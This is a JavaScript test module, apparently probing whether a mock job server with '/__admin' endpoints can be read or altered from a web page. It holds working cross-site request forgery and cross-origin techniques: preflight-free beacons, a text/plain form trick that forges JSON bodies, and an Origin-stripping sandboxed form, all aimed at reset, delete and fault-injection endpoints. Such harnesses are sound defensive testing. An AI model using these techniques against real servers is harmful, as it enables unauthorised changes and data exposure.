// What a web page can try to do to a server: read what it answers, and change something in it. Runs in the page, so it
// stands on nothing outside of itself. Gives what it could read, and the marks of the requests that a browser sends
// without asking the server first (by a preflight request) whether it may: they stand in the server's log.
export async function attack({ target, token, job, name }) {
  const read = [];
  const sent = [];
  const patience = 10_000;  // milliseconds; what takes longer has failed

  // As the value of a parameter that the log shows and that nothing here asks for.
  const mark = (path, how) => `${path}${path.includes('?') ? '&' : '?'}count=${name}-${how}`;
  const send = (method, path, how) => {
    const target_ = mark(path, how);
    sent.push({ method, target: target_ });
    return target + target_;
  };
  const inTime = (promise) =>
    Promise.race([promise.catch(() => {}), new Promise((resolve) => { setTimeout(resolve, patience); })]);
  const tryFetch = async (how, url, options) => {
    const response = await fetch(url, options);
    const text = await response.text();
    if (response.type !== 'opaque' || text !== '') read.push({ how, url, text });
  };
  const tryXhr = (how, method, url, body) => new Promise((resolve) => {
    const request = new XMLHttpRequest();
    request.onloadend = () => {
      if (request.responseText) read.push({ how, url, text: request.responseText });
      resolve();
    };
    request.open(method, url);
    request.send(body);
  });
  const tryElement = (how, tag, attribute, url, look = () => '') => new Promise((resolve) => {
    const element = document.createElement(tag);
    const end = () => {
      let text = '';
      try {
        text = look(element);
      } catch {}  // the browser does not let it
      if (text) read.push({ how, url, text });
      resolve();
    };
    element.onload = end;
    element.onerror = end;
    if (tag === 'link') element.rel = 'stylesheet';
    element[attribute] = url;
    document.body.append(element);
  });
  const tryEvents = (how, url) => new Promise((resolve) => {
    const source = new EventSource(url);
    source.onmessage = ({ data }) => read.push({ how, url, text: data });
    source.onerror = () => { source.close(); resolve(); };
  });
  const trySocket = (how, url) => new Promise((resolve) => {
    const socket = new WebSocket(url.replace('http:', 'ws:'));
    socket.onmessage = ({ data }) => read.push({ how, url, text: String(data) });
    socket.onclose = resolve;
  });
  const formIn = (page, enctype, url, body) => {
    const form = page.createElement('form');
    Object.assign(form, { method: 'post', enctype, action: url });
    const input = page.createElement('input');
    // As text/plain the two make the body with ',"x":"="}' at its end.
    Object.assign(input, { name: `${body.slice(0, -1)},"x":"`, value: '"}' });
    form.append(input);
    return form;
  };
  const frame = (attributes) => {
    const element = document.createElement('iframe');
    Object.assign(element, attributes);
    document.body.append(element);
    return element;
  };
  const postForm = (enctype, url, body) => {
    const into = `frame-${Math.random()}`;
    frame({ name: into });
    const form = formIn(document, enctype, url, body);
    form.target = into;
    document.body.append(form);
    form.submit();
  };
  const postFormWithoutOrigin = (url, body) => {
    const form = formIn(document, 'text/plain', url, body);
    form.id = 'form';
    frame({ sandbox: 'allow-scripts allow-forms', srcdoc: `${form.outerHTML}<script>form.submit()</script>` });
  };

  addEventListener('error', ({ message }) => {
    if (message && message !== 'Script error.') read.push({ how: 'script', url: target, text: message });
  });
  const withToken = { Authorization: `Bearer ${token}` };
  const admin = ['health', 'version', 'clock', 'jobs', 'faults', 'requests', 'report', 'report?format=text', 'worlds',
    'openapi.json'].map((path) => `/__admin/${path}`);
  for (const path of [`/v1/applications/jobs/${job}`, '/v1/applications', ...admin]) {
    const url = (how) => send('GET', path, how);
    const asked = (how) => target + mark(path, how);  // by a preflight request
    await Promise.all([
      tryFetch('fetch', url('fetch')),
      tryFetch('no-cors', url('no-cors'), { mode: 'no-cors' }),
      tryFetch('credentials', url('credentials'), { credentials: 'include' }),
      tryFetch('token', asked('token'), { headers: withToken }),
      tryFetch('admin', asked('admin'), { headers: { 'X-Jobmock-Admin-Token': token } }),
      tryXhr('xhr', 'GET', url('xhr')),
      tryEvents('events', url('events')),
      import(target + mark(path, 'import')).then((module) => read.push({ how: 'import', url: path, text: Object.keys(module).join() })),
      tryElement('script', 'script', 'src', url('script')),
      tryElement('image', 'img', 'src', url('image')),
      tryElement('style', 'link', 'href', url('style'), ({ sheet }) => [...sheet.cssRules].map(String).join()),
      tryElement('frame', 'iframe', 'src', url('frame'), ({ contentDocument }) => contentDocument.body.textContent),
    ].map(inTime));
  }

  await inTime(trySocket('socket', target + mark('/__admin/clock', 'socket')));

  const one = `/__admin/jobs/${job}`;
  const changes = [
    ['POST', '/__admin/clock/advance', '{"by":"1h"}'],
    ['PUT', '/__admin/clock', '{"speed":60}'],
    ['POST', '/__admin/faults', '{"status":503}'],
    ['DELETE', '/__admin/faults', '{}'],
    ['POST', '/__admin/jobs', '{"id":"00000000-0000-4000-8000-000000000001","application_id":"app"}'],
    ['POST', `${one}/hold`, '{}'],
    ['POST', `${one}/transition`, '{"status":"failed","error":"Moved"}'],
    ['DELETE', one, '{}'],
    ['POST', '/v1/applications/app/jobs', '{"inputs":[]}'],
    ['POST', `/v1/applications/jobs/${job}/retry`, '{}'],
    ['PUT', '/v1/applications/app/graphs', '{"graph_ids":["a"]}'],
    ['DELETE', '/__admin/requests', '{}'],
    ['DELETE', `/__admin/worlds/${token}`, '{}'],
    ['POST', '/__admin/reset', '{}'],
    ['POST', `/__admin/reset?world=${token}`, '{}'],
    ['POST', '/__admin/fixtures/reload', '{}'],
  ];
  for (const [method, path, body] of changes) {
    const asked = (how) => target + mark(path, how);
    await Promise.all([
      tryFetch('json', asked('json'), { method, body, headers: { 'Content-Type': 'application/json' } }),
      tryFetch('token', asked('token'), { method, body, headers: withToken }),
    ].map(inTime));
    if (method !== 'POST') {
      await inTime(tryFetch('plain', asked('plain'), { method, body }));
      continue;
    }
    const url = (how) => send('POST', path, how);
    await Promise.all([
      tryFetch('plain', url('plain'), { method, body }),
      tryFetch('no-cors', url('no-cors'), { method, body, mode: 'no-cors' }),
      tryFetch('no-referrer', url('no-referrer'), { method, body, mode: 'no-cors', referrerPolicy: 'no-referrer' }),
      tryXhr('xhr', 'POST', url('xhr'), body),
    ].map(inTime));
    navigator.sendBeacon(url('beacon'), body);
    navigator.sendBeacon(url('blob'), new Blob([body], { type: 'text/plain' }));
    postForm('text/plain', url('form-plain'), body);
    postForm('application/x-www-form-urlencoded', url('form-encoded'), body);
    postForm('multipart/form-data', url('form-parts'), body);
    postFormWithoutOrigin(url('form-sandboxed'), body);
  }
  return { read, sent };
}
